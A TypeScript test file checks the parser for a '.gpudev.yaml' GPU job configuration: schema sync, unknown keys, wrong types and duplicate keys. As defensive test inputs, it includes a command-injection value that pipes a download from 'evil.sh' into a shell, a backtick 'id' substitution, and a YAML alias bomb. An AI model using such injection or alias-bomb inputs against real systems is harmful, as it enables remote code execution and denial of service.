import * as assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { gpudevJsonSchema } from '../../src/workspace/jsonSchema';
import { parseGpudevConfig } from '../../src/workspace/loadConfig';

const SCHEMA_FILE = 'media/gpudev.schema.json';

const problems = (text: string) => {
  const result = parseGpudevConfig(text);
  return result.ok ? [] : result.problems.map((p) => `${p.line}:${p.column} ${p.message}`);
};

describe('.gpudev.yaml', () => {
  it('the committed JSON Schema (yamlValidation) is the one generated from the zod schema', () => {
    const generated = `${JSON.stringify(gpudevJsonSchema(), null, 2)}\n`;
    if (process.env.GPUDEV_UPDATE_SCHEMA) writeFileSync(SCHEMA_FILE, generated);
    assert.equal(
      readFileSync(SCHEMA_FILE, 'utf8'),
      generated,
      `GPUDEV_UPDATE_SCHEMA=1 npx mocha … to rewrite ${SCHEMA_FILE}`,
    );
  });

  it('reads every key the issue names', () => {
    const result = parseGpudevConfig(
      [
        'workload: finetune',
        'model: mistralai/Mistral-7B-v0.1',
        'precision: int4',
        'batch: 4',
        'sequence: 1024',
        'gpu: {count: 2, memoryGiB: 20, target: rtx4090, types: [a100, l40s]}',
        'image: nvcr.io/nvidia/pytorch:24.08-py3',
        'setup: pip install -r requirements.txt',
        'run: python train.py',
        'env: {HF_HOME: /data/hf}',
        'cluster: lab',
        'time: 2h',
        'partition: gpu',
        'sync: {exclude: [checkpoints, .venv]}',
      ].join('\n'),
    );
    assert.ok(result.ok, JSON.stringify(result.problems));
    assert.equal(result.config.gpu?.target, 'rtx4090');
    assert.deepEqual(result.config.sync?.exclude, ['checkpoints', '.venv']);
  });

  it('takes model as {params: 7e9}', () => {
    const result = parseGpudevConfig('model:\n  params: 7e9\n');
    assert.ok(result.ok);
    assert.deepEqual(result.config.model, { params: 7e9 });
  });

  it('names unknown keys with their line and a did-you-mean', () => {
    assert.deepEqual(problems('workload: inference\nprecison: bf16\ngpu:\n  cout: 2\n'), [
      '2:1 Unknown key "precison" in the file: did you mean precision?',
      '4:3 Unknown key "cout" in gpu: did you mean count?',
    ]);
  });

  it('names wrong types and values with their line', () => {
    assert.deepEqual(problems('workload: serving\nbatch: four\ntime: soon\n'), [
      '1:11 workload: Invalid option: expected one of "training"|"finetune"|"inference"|"interactive"',
      '2:8 batch: Invalid input: expected number, received string',
      '3:7 time: a time: 30m, 2h, 1h30m, 1d or 1-00:00:00',
    ]);
  });

  it('refuses $(...) and backticks in image, and shell syntax in names', () => {
    assert.deepEqual(problems('image: "ubuntu:22.04$(curl evil.sh|sh)"\ngpu:\n  target: "`id`"\n'), [
      '1:8 image: an image reference (registry/name:tag), without spaces or shell syntax',
      '3:11 gpu.target: letters, digits and . _ - only',
    ]);
  });

  it('a YAML alias bomb is a clear error, fast', () => {
    const bomb = [
      'a: &a ["x","x","x","x","x","x","x","x","x","x"]',
      ...'bcdefghi'.split('').map((k, i) => `${k}: &${k} [${Array(10).fill(`*${'abcdefghi'[i]}`).join(',')}]`),
      'run: *i',
    ].join('\n');
    const started = Date.now();
    const found = problems(bomb);
    assert.ok(Date.now() - started < 1000, `${Date.now() - started} ms`);
    assert.equal(found.length, 1);
    assert.match(found[0]!, /^1:1 YAML: .*alias.*limited to 100/i);
  });

  it('YAML syntax errors keep their line', () => {
    assert.match(problems('workload: training\nmodel: [unclosed\n')[0]!, /^\d+:\d+ YAML: /);
  });

  it('a duplicate key is an error, not a silent override', () => {
    assert.match(problems('batch: 1\nbatch: 2\n')[0]!, /^2:1 YAML: .*[Uu]nique/);
  });
});
